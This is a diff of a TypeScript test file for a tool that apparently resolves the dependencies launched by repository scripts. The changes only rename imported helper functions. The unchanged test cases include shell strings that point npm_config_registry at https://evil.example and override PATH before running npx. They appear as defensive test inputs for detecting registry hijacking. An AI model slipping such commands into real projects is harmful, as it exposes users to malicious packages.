@@ -4,18 +4,18 @@
  */
 
 import { describe, expect, test } from 'vitest';
-import { reasonOf, versionPart } from '../../../src/detection/ecosystems/ecosystems.ts';
+import { unidentifiedReason, versionPart } from '../../../src/detection/ecosystems/ecosystems.ts';
 import { candidatesOf, proveCandidate } from '../../../src/detection/resolution/candidates.ts';
-import { envFile } from '../../../src/detection/resolution/project/env-file.ts';
+import { envFile } from '../../../src/detection/resolution/project/env-file-kind.ts';
 import {
-  openProject,
+  createLazyProject,
   type Project,
   readUntilComplete,
 } from '../../../src/detection/resolution/project/project.ts';
 import { resolveLaunch } from '../../../src/detection/resolution/resolve.ts';
-import { trackedFrom } from '../../../src/io/files/tracked.ts';
+import { createTrackedPaths } from '../../../src/io/files/tracked.ts';
 import type { Declaration, Dependency } from '../../../src/model/model.ts';
-import { declare, launchOf, resolveIn, word } from '../../builders.ts';
+import { declare, launchWith, resolveIn, word } from '../../builders.ts';
 import { cpuMs } from '../../cpu.ts';
 import { unidentified } from '../launch/reasons.ts';
 
@@ -30,7 +30,7 @@ function briefly(dependency: Dependency) {
         ` (${what}${file === null ? '' : ` in ${file}:${span.start.line}`})`,
     )
     .join('');
-  if (type === 'unidentified') return `unidentified: ${reasonOf(dependency)}${changed}`;
+  if (type === 'unidentified') return `unidentified: ${unidentifiedReason(dependency)}${changed}`;
   if (type === 'local') return `local ${name}${changed}`;
   const version = resolved
     ? `${resolved.version} by ${resolved.file}:${resolved.line}`
@@ -185,7 +185,7 @@ describe('shell scripts of the repository', () => {
 
   test('in the folder that the command line moves to', async () => {
     const text = 'cd "$(git rev-parse --show-toplevel)" && cd tools && exec bash run.sh';
-    const launch = launchOf({ command: word('bash'), args: [word('-lc'), word(text)] });
+    const launch = launchWith({ command: word('bash'), args: [word('-lc'), word(text)] });
     const dependencies = await resolveIn({ 'tools/run.sh': start }, declare('x', { launch }));
     expect(dependencies.map(briefly)).toEqual(['local tools/run.sh', 'npm @acme/notes 1.0.0']);
   });
@@ -1078,12 +1078,12 @@ describe('what a repository may try', () => {
       'export -- npm_config_registry=https://evil.example; npx good',
       'export CI npm_config_registry+=https://evil.example; npx good',
     ]) {
-      const launch = launchOf({ command: word('bash'), args: [word('-c'), word(text)] });
+      const launch = launchWith({ command: word('bash'), args: [word('-c'), word(text)] });
       const [first] = await resolveIn({}, declare('x', { launch }));
       expect(first?.alterations).toMatchObject([{ what: 'npm_config_registry' }]);
     }
     for (const text of [': ${X:=evil}; export X; npx good', 'printf -v PATH %s ./bin; npx good']) {
-      const launch = launchOf({ command: word('bash'), args: [word('-c'), word(text)] });
+      const launch = launchWith({ command: word('bash'), args: [word('-c'), word(text)] });
       const [first] = await resolveIn({}, declare('x', { launch }));
       expect(first).toMatchObject({ type: 'unidentified' });
     }
@@ -1102,11 +1102,11 @@ describe('what a repository may try', () => {
 
   test('settings that are there and cannot be read may be anything', async () => {
     const paths = new Set(['.npmrc', 'package.json']);
-    const open = openProject({
+    const open = createLazyProject({
       paths,
       links: new Set(),
       foreign: new Set(),
-      tracked: trackedFrom([...paths].map((path) => [path, 'file'])),
+      tracked: createTrackedPaths([...paths].map((path) => [path, 'file'])),
       realPath: (path) => path,
       read: async () => ({ reason: 'no' }),
     });
@@ -1122,11 +1122,11 @@ describe('what a repository may try', () => {
     { files: 8, decides: true },
     { files: 40, decides: false },
   ])('a chain of $files files decides: $decides', async ({ files, decides }) => {
-    const open = openProject({
+    const open = createLazyProject({
       paths: new Set(Array.from({ length: files }, (_, at) => `${at}.env`)),
       links: new Set(),
       foreign: new Set(),
-      tracked: trackedFrom([]),
+      tracked: createTrackedPaths([]),
       realPath: (path) => path,
       read: async (path) => ({ text: `NEXT=${Number.parseInt(path, 10) + 1}.env` }),
     });
@@ -1148,11 +1148,11 @@ describe('what a repository may try', () => {
   });
 
   test('a link in place of a module is not the package', async () => {
-    const open = openProject({
+    const open = createLazyProject({
       paths: new Set(['requirements.txt']),
       links: new Set(['good_mcp']),
       foreign: new Set(),
-      tracked: trackedFrom([]),
+      tracked: createTrackedPaths([]),
       realPath: (path) => path,
       read: async () => ({ text: 'good-mcp==1.0.0' }),
     });
@@ -1177,11 +1177,11 @@ describe('what a repository may try', () => {
 
 describe('candidates', () => {
   async function candidates(files: Files): Promise<string[]> {
-    const open = openProject({
+    const open = createLazyProject({
       paths: new Set(Object.keys(files)),
       links: new Set(),
       foreign: new Set(),
-      tracked: trackedFrom([]),
+      tracked: createTrackedPaths([]),
       realPath: (path) => path,
       read: async (path) => ({ text: files[path] ?? '' }),
     });
